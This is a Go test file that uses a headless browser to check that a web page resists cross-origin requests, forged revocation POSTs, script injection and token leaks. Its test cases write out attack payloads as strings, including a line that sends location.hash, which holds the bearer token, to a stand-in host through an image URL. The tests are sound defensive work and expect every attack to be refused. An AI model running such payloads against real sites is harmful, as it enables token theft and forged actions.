package page_test

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/docent-go/docent/cmd/docent/internal/apptest"
	"github.com/docent-go/docent/cmd/docent/internal/page"
)

// A page of another origin can neither read what docent shows nor ask for a revocation. The origin is another
// port of the host, or another name.
func TestAttack_another_origin(t *testing.T) {
	var revoked atomic.Int64
	s := serve(t, func(c *page.Config) {
		c.Revoke = func(context.Context, string) error { revoked.Add(1); return nil }
	})
	s.show(mutex("/locks/a", "alice"))
	attack := fmt.Sprintf(`<!doctype html><title>tries</title><script>
	  const target = %q, body = '{"znode":"/locks/a/alice","fence":"100"}', outcome = [];
	  const note = (name) => (reply) => outcome.push(name + ' ' + (reply.type === 'opaque' ? 'sent' : 'READ ' + reply.status));
	  const refused = (name) => () => outcome.push(name + ' refused');
	  const token = { Authorization: 'Bearer %s' };
	  Promise.all([
	    ['frame', '/', {}], ['stream', '/events', { headers: token }], ['metrics', '/metrics', { headers: token }],
	    ['revocation', '/revoke', { method: 'POST', headers: { ...token, 'Content-Type': 'application/json' }, body }],
	    ['simple', '/revoke', { method: 'POST', mode: 'no-cors', body }],
	  ].map(([name, path, init]) => fetch(target + path, init).then(note(name), refused(name))))
	  .then(() => { document.title = outcome.sort().join(', '); });
	</script>`, s.base, token)
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, attack)
	}))
	defer other.Close()
	for name, url := range map[string]string{
		"another port": other.URL, "another name": strings.Replace(other.URL, "127.0.0.1", "localhost", 1),
	} {
		t.Run(name, func(t *testing.T) {
			tb := openTab(t)
			tb.do(chromedp.Navigate(url))
			tb.await("document.title !== 'tries'")
			want := "frame refused, metrics refused, revocation refused, simple refused, stream refused"
			if got := get[string](tb, "document.title"); got != want {
				t.Errorf("%q, want %q", got, want)
			}
		})
	}
	if n := revoked.Load(); n > 0 {
		t.Errorf("%d revocations", n)
	}
}

// Even a script within the page could make no HTML of text, load nothing, and send nothing elsewhere.
func TestAttack_within_the_page(t *testing.T) {
	s := serve(t, nil)
	tb := openTab(t)
	tb.do(chromedp.Navigate(s.base + "/#token=" + token))
	s.show(mutex("/locks/a", "alice"))
	tb.awaitText("#rows tbody", "alice")
	get[bool](tb, "(window.blocked = [], addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective)), true)")
	for name, attack := range map[string]string{
		"HTML of text":   "document.body.innerHTML = '<b>x</b>'",
		"a script":       "document.createElement('script').textContent = 'window.owned = 1'",
		"a written page": "document.write('<b>x</b>')",
	} {
		expression := fmt.Sprintf("(() => { try { %s; return 'made'; } catch (e) { return e.name; } })()", attack)
		if got := get[string](tb, expression); got != "TypeError" {
			t.Errorf("%s: %s", name, got)
		}
	}
	for directive, attack := range map[string]string{
		"img-src":     "new Image().src = 'http://localhost:1/' + location.hash",
		"connect-src": "fetch('http://localhost:1/').catch(() => {})",
		"frame-src":   "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://localhost:1/' }))",
		"form-action": "(() => { const f = Object.assign(document.createElement('form'), { action: 'http://localhost:1/', method: 'post' }); document.body.append(f); f.submit(); })()",
		"base-uri":    "document.head.append(Object.assign(document.createElement('base'), { href: 'http://localhost:1/' }))",
	} {
		get[bool](tb, "("+attack+", true)")
		tb.await(fmt.Sprintf("blocked.includes(%q)", directive))
	}
}

// The token is in no URL that the page asks for, in no cookie or store, in no referrer and in no log.
func TestAttack_the_token_leaks_nowhere(t *testing.T) {
	var log apptest.Buffer
	s := serve(t, func(c *page.Config) { c.Log = slog.New(slog.NewTextHandler(&log, nil)) })
	tb := visit(t, s)
	s.show(mutex("/locks/a", "alice"))
	tb.awaitText("#rows tbody", "alice")
	tb.do(chromedp.Click("#save"))
	for _, headers := range [][]string{{"Authorization: Bearer almost-" + token}, {"Host: evil.example"}, {"Sec-Fetch-Site: cross-site"}} {
		s.ask(t, "GET", "/metrics?token="+token, "", headers...)
	}
	if got := log.String(); strings.Count(got, "refused") != 3 || strings.Contains(got, token) {
		t.Errorf("the log: %s", got)
	}
	if got := get[string](tb, "document.cookie + localStorage.length + sessionStorage.length"); got != "00" {
		t.Errorf("cookies and stores: %q", got)
	}
	tb.mu.Lock()
	defer tb.mu.Unlock()
	for _, url := range tb.requests {
		if strings.Contains(url, token) {
			t.Errorf("the page asked for %s", url)
		}
	}
	if len(tb.referrers) > 0 {
		t.Errorf("referrers were sent: %q", tb.referrers)
	}
}
